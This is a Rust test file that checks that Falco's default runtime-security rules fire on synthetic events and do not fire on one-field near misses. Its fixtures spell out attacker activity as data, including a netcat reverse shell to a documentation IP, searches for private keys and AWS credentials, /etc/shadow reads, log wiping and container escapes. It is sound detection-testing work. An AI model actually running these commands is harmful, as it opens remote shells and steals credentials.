//! Falco's default rules load and fire on the behaviour each describes: one
//! event per rule that fires it, and a near miss (one field changed) that
//! must not.

use std::path::PathBuf;

use rampart_rules::{EventTypes, MapEvent, RuleSet};

fn data(rel: &str) -> (PathBuf, String) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data").join(rel);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!("test data {} is missing ({e}); see ../shared/data/README.md", path.display())
    });
    (path, text)
}

fn falco_rules() -> RuleSet {
    match RuleSet::load_with_builtins(&[data("falco/rules/falco_rules.yaml")]) {
        Ok((set, warnings)) => {
            assert!(warnings.is_empty(), "unexpected warnings: {warnings:?}");
            set
        }
        Err(e) => panic!("falco_rules.yaml does not load:\n{e}"),
    }
}

const OPEN_READ: &[(&str, &str)] =
    &[("evt.is_open_read", "true"), ("fd.typechar", "f"), ("fd.num", "3"), ("evt.res", "SUCCESS")];
const OPEN_WRITE: &[(&str, &str)] =
    &[("evt.is_open_write", "true"), ("fd.typechar", "f"), ("fd.num", "3"), ("evt.res", "SUCCESS")];
const IN_CONTAINER: &[(&str, &str)] = &[
    ("container.id", "3f2a1b9c8d7e"),
    ("container.image.repository", "docker.io/library/alpine"),
    ("k8s.ns.name", "default"),
];

struct Case {
    rule: &'static str,
    event_type: &'static str,
    common: &'static [&'static [(&'static str, &'static str)]],
    fields: &'static [(&'static str, &'static str)],
    /// The field changed for the near miss, and its new value.
    miss: (&'static str, &'static str),
}

const CASES: &[Case] = &[
    Case {
        rule: "Directory traversal monitored file read",
        event_type: "openat",
        common: &[OPEN_READ],
        fields: &[
            ("fd.name", "/etc/shadow"),
            ("fd.nameraw", "/var/www/../../etc/shadow"),
            ("proc.pname", "php-fpm"),
        ],
        miss: ("fd.nameraw", "/etc/shadow"),
    },
    Case {
        rule: "Read sensitive file trusted after startup",
        event_type: "openat",
        common: &[OPEN_READ],
        fields: &[("fd.name", "/etc/shadow"), ("proc.name", "nginx"), ("proc.duration", "60000000000")],
        miss: ("proc.duration", "1000000000"),
    },
    Case {
        rule: "Read sensitive file untrusted",
        event_type: "openat",
        common: &[OPEN_READ],
        fields: &[("fd.name", "/etc/shadow"), ("proc.name", "evil"), ("proc.pname", "bash")],
        miss: ("proc.name", "sshd"),
    },
    Case {
        rule: "Run shell untrusted",
        event_type: "execve",
        common: &[],
        fields: &[("proc.name", "bash"), ("proc.pname", "nginx"), ("proc.cmdline", "bash -c id")],
        miss: ("proc.pname", "bash"),
    },
    Case {
        rule: "System user interactive",
        event_type: "execve",
        common: &[],
        fields: &[("proc.name", "bash"), ("user.name", "www-data"), ("proc.pname", "sshd")],
        miss: ("user.name", "alice"),
    },
    Case {
        rule: "Terminal shell in container",
        event_type: "execve",
        common: &[IN_CONTAINER],
        fields: &[("proc.name", "bash"), ("proc.tty", "34816"), ("proc.pname", "runc")],
        miss: ("proc.tty", "0"),
    },
    Case {
        rule: "Contact K8S API Server From Container",
        event_type: "connect",
        common: &[IN_CONTAINER],
        fields: &[("fd.typechar", "4"), ("fd.sip.name", "kubernetes.default.svc.cluster.local")],
        miss: ("k8s.ns.name", "kube-system"),
    },
    Case {
        rule: "Netcat Remote Code Execution in Container",
        event_type: "execve",
        common: &[IN_CONTAINER],
        fields: &[("proc.name", "nc"), ("proc.cmdline", "nc -e /bin/sh 198.51.100.7 4444")],
        miss: ("proc.cmdline", "nc 198.51.100.7 80"),
    },
    Case {
        rule: "Search Private Keys or Passwords",
        event_type: "execve",
        common: &[],
        fields: &[("proc.name", "find"), ("proc.args", "/ -name id_rsa")],
        miss: ("proc.args", "/ -name notes.txt"),
    },
    Case {
        rule: "Clear Log Activities",
        event_type: "openat",
        common: &[OPEN_WRITE],
        fields: &[
            ("fd.name", "/var/log/syslog"),
            ("fd.directory", "/var/log"),
            ("fd.filename", "syslog"),
            ("evt.arg.flags", "O_WRONLY|O_TRUNC"),
            ("proc.name", "bash"),
        ],
        miss: ("evt.arg.flags", "O_WRONLY|O_APPEND"),
    },
    Case {
        rule: "Remove Bulk Data from Disk",
        event_type: "execve",
        common: &[],
        fields: &[("proc.name", "shred"), ("proc.args", "-u /data/db")],
        miss: ("proc.name", "rm"),
    },
    Case {
        rule: "Create Symlink Over Sensitive Files",
        event_type: "symlinkat",
        common: &[],
        fields: &[("evt.arg.target", "/etc/shadow"), ("evt.arg.linkpath", "/tmp/s")],
        miss: ("evt.arg.target", "/tmp/notes"),
    },
    Case {
        rule: "Create Hardlink Over Sensitive Files",
        event_type: "linkat",
        common: &[],
        fields: &[("evt.arg.oldpath", "/etc/shadow"), ("evt.arg.newpath", "/tmp/s")],
        miss: ("evt.arg.oldpath", "/tmp/notes"),
    },
    Case {
        rule: "Packet socket created in container",
        event_type: "socket",
        common: &[IN_CONTAINER],
        fields: &[("evt.arg.domain", "AF_PACKET"), ("proc.name", "scapy")],
        miss: ("evt.arg.domain", "AF_INET"),
    },
    Case {
        rule: "Redirect STDOUT/STDIN to Network Connection in Container",
        event_type: "dup2",
        common: &[IN_CONTAINER],
        fields: &[("evt.rawres", "1"), ("fd.type", "ipv4")],
        miss: ("fd.type", "file"),
    },
    Case {
        rule: "Linux Kernel Module Injection Detected",
        event_type: "finit_module",
        common: &[IN_CONTAINER],
        fields: &[("thread.cap_effective", "CAP_SYS_ADMIN CAP_SYS_MODULE"), ("proc.name", "insmod")],
        miss: ("thread.cap_effective", "CAP_SYS_ADMIN"),
    },
    Case {
        rule: "Debugfs Launched in Privileged Container",
        event_type: "execve",
        common: &[IN_CONTAINER],
        fields: &[("container.privileged", "true"), ("proc.name", "debugfs")],
        miss: ("container.privileged", "false"),
    },
    Case {
        rule: "Detect release_agent File Container Escapes",
        event_type: "openat",
        common: &[OPEN_WRITE, IN_CONTAINER],
        fields: &[
            ("fd.name", "/tmp/cgrp/release_agent"),
            ("user.uid", "0"),
            ("thread.cap_effective", "CAP_SYS_ADMIN CAP_DAC_OVERRIDE"),
        ],
        miss: ("thread.cap_effective", "CAP_DAC_OVERRIDE"),
    },
    Case {
        rule: "PTRACE attached to process",
        event_type: "ptrace",
        common: &[],
        fields: &[("evt.arg.request", "PTRACE_ATTACH"), ("proc.name", "injector")],
        miss: ("evt.arg.request", "PTRACE_PEEKDATA"),
    },
    Case {
        rule: "PTRACE anti-debug attempt",
        event_type: "ptrace",
        common: &[],
        fields: &[("evt.arg.request", "PTRACE_TRACEME"), ("proc.name", "packed")],
        miss: ("evt.arg.request", "PTRACE_ATTACH"),
    },
    Case {
        rule: "Find AWS Credentials",
        event_type: "execve",
        common: &[],
        fields: &[("proc.name", "find"), ("proc.args", "/home -path */.aws/credentials")],
        miss: ("proc.args", "/home -name notes"),
    },
    Case {
        rule: "Execution from /dev/shm",
        event_type: "execve",
        common: &[],
        fields: &[("proc.exe", "/dev/shm/miner"), ("proc.name", "miner")],
        miss: ("proc.exe", "/usr/bin/miner"),
    },
    Case {
        rule: "Drop and execute new binary in container",
        event_type: "execve",
        common: &[IN_CONTAINER],
        fields: &[("proc.is_exe_upper_layer", "true"), ("proc.name", "xmrig")],
        miss: ("proc.is_exe_upper_layer", "false"),
    },
    Case {
        rule: "Disallowed SSH Connection Non Standard Port",
        event_type: "connect",
        common: &[],
        fields: &[
            ("fd.typechar", "4"),
            ("fd.cip", "10.0.0.5"),
            ("fd.sip", "203.0.113.7"),
            ("fd.sport", "4444"),
            ("fd.l4proto", "tcp"),
            ("proc.exe", "/usr/bin/ssh"),
            ("evt.rawres", "0"),
        ],
        miss: ("fd.sip", "10.1.1.1"),
    },
    Case {
        rule: "Fileless execution via memfd_create",
        event_type: "execve",
        common: &[],
        fields: &[("proc.is_exe_from_memfd", "true"), ("proc.name", "3")],
        miss: ("proc.is_exe_from_memfd", "false"),
    },
];

fn build(case: &Case, miss: bool) -> MapEvent {
    let mut e = MapEvent::new(case.event_type);
    for group in case.common {
        for (k, v) in *group {
            e.set(k, v).unwrap();
        }
    }
    for (k, v) in case.fields {
        e.set(k, v).unwrap();
    }
    if miss {
        e.set(case.miss.0, case.miss.1).unwrap();
    }
    e
}

#[test]
fn every_falco_rule_fires_and_its_near_miss_does_not() {
    let set = falco_rules();
    let falco: Vec<&str> =
        set.rules().iter().filter(|r| !r.file.starts_with("<builtin>")).map(|r| r.name.as_str()).collect();
    assert_eq!(falco.len(), 25);
    for name in &falco {
        assert!(CASES.iter().any(|c| c.rule == *name), "no case for rule '{name}'");
    }
    let mut failures = Vec::new();
    for case in CASES {
        let rule = set.rule(case.rule).unwrap_or_else(|| panic!("rule '{}' not loaded", case.rule));
        let hit = build(case, false);
        let matched: Vec<&str> = set.evaluate(&hit).iter().map(|r| r.name.as_str()).collect();
        if !matched.contains(&case.rule) {
            failures.push(format!("'{}' did not fire (matched: {matched:?})", case.rule));
        }
        let near = build(case, true);
        if rule.matches(&near) {
            failures.push(format!("'{}' fired on its near miss {:?}", case.rule, case.miss));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn disabled_and_overridden_rules_follow_later_files() {
    let override_file = (
        PathBuf::from("local.yaml"),
        "- rule: Remove Bulk Data from Disk\n  enabled: false\n\
         - list: data_remove_commands\n  items: [wipe]\n  override:\n    items: append\n"
            .to_string(),
    );
    let (set, _) = RuleSet::load(&[data("falco/rules/falco_rules.yaml"), override_file]).unwrap();
    let shred = MapEvent::from_pairs("execve", &[("proc.name", "shred")]).unwrap();
    assert!(set.evaluate(&shred).is_empty(), "a disabled rule must not match");
    assert!(set.rule("Remove Bulk Data from Disk").is_some_and(|r| !r.enabled && r.matches(&shred)));
    let wipe = MapEvent::from_pairs("execve", &[("proc.name", "wipe")]).unwrap();
    assert!(set.rule("Remove Bulk Data from Disk").unwrap().matches(&wipe));
}

#[test]
fn event_types_cover_what_the_rules_test() {
    let set = falco_rules();
    let EventTypes::Only(types) = set.event_types() else { panic!("a rule matches every event type") };
    for t in [
        "execve",
        "execveat",
        "openat",
        "connect",
        "ptrace",
        "symlinkat",
        "linkat",
        "dup2",
        "socket",
        "setuid",
    ] {
        assert!(types.contains(t), "{t} missing from {types:?}");
    }
    assert!(!types.contains("read") && !types.contains("close"));
    let shell = set.rule("Run shell untrusted").unwrap().event_types().unwrap();
    assert_eq!(shell.iter().map(String::as_str).collect::<Vec<_>>(), ["execve", "execveat"]);
}

#[test]
fn output_lines_format_like_falco() {
    let set = falco_rules();
    let case = CASES.iter().find(|c| c.rule == "Terminal shell in container").unwrap();
    let mut e = build(case, false);
    e.set("user.name", "root").unwrap();
    let (line, fields) = set.rule(case.rule).unwrap().format_output(&e);
    assert!(line.starts_with("A shell was spawned in a container with an attached terminal"), "{line}");
    assert!(line.contains("user=root "), "{line}");
    assert!(line.contains("evt_type=execve "), "{line}");
    assert!(line.contains("user_uid=<NA> "), "{line}");
    assert!(line.contains("terminal=34816"), "{line}");
    assert_eq!(
        fields.get("user.name").and_then(|v| v.as_ref()).map(|v| v.to_string()).as_deref(),
        Some("root")
    );
    assert_eq!(fields.get("user.uid"), Some(&None));
}
